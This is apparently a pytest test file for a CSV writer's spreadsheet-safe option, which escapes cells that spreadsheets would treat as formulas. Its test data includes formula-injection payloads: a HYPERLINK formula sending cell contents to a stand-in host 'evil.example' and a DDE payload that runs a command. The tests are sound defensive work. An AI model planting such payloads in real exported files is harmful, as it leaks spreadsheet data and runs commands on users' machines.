"""CSV answers that a spreadsheet shows and does not run, for those who ask for it."""

import csv
import io

import numpy as np
import pyarrow as pa
import pytest
from fastapi.testclient import TestClient

from app.answering.options import read_options
from app.answering.writers import CsvWriter
from app.errors import Invalid
from tests.support.models import ROWS, succeed

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
]
HARMLESS = ["a=1", "1-2", "'x", "", "grün", " =1"]


def write(is_safe: bool, values: list[str | None]) -> list[list[str]]:
    columns = {
        "id": pa.array(values, pa.string()),
        "mean": np.linspace(-1.5, 1.5, len(values)),
    }
    content = CsvWriter(None, is_safe).write(columns).decode()
    return [*csv.reader(io.StringIO(content, newline=""))][1:]


def test_texts_that_are_formulas_get_a_quote() -> None:
    values = [*FORMULAS, *HARMLESS, None]
    safe, usual = write(True, values), write(False, values)
    assert [row[0] for row in usual] == [*FORMULAS, *HARMLESS, ""]
    assert [row[0] for row in safe] == [*(f"'{v}" for v in FORMULAS), *HARMLESS, ""]
    # Numbers are numbers, the negative ones too.
    assert [row[1] for row in safe] == [row[1] for row in usual]
    assert float(safe[0][1]) == -1.5


def test_labels_get_it_too() -> None:
    writer = CsvWriter(["=1+1", "b"], True)
    columns = {"label": ["=1+1", "b"], "set": [["=1+1"], ["b"]]}
    rows = [*csv.reader(io.StringIO(writer.write(columns).decode()))]
    assert rows[1:] == [["'=1+1", '["=1+1"]'], ["b", '["b"]']]


@pytest.mark.parametrize(
    "kind", [pa.large_string(), pa.string_view(), pa.binary(), pa.large_binary()]
)
def test_texts_of_any_type_get_it(kind: pa.DataType) -> None:
    columns = {"id": pa.array(["=1", "a", None]).cast(kind)}
    content = CsvWriter(None, True).write(columns).decode()
    rows = [*csv.reader(io.StringIO(content, newline=""))]
    assert [row[:1] for row in rows] == [["id"], ["'=1"], ["a"], []]


def test_the_option_is_a_boolean() -> None:
    assert read_options({"spreadsheet_safe": "true"}, {}).spreadsheet_safe
    assert not read_options({}, {}).spreadsheet_safe
    with pytest.raises(Invalid):
        read_options({"spreadsheet_safe": "yes"}, {})


def test_it_can_be_asked_for(client: TestClient) -> None:
    model_id = succeed(client, "y")["model_id"]
    rows = [{**ROWS[0], "id": "=1+1"}, {**ROWS[1], "id": "b"}]
    headers = {"Accept": "text/csv"}

    def ask(query: str) -> list[str]:
        response = client.post(
            f"/models/{model_id}/predict{query}", json={"rows": rows}, headers=headers
        )
        assert response.status_code == 200, response.text
        lines = csv.DictReader(io.StringIO(response.text))
        return [line["id"] for line in lines]

    assert ask("") == ["=1+1", "b"]
    assert ask("?spreadsheet_safe=true") == ["'=1+1", "b"]
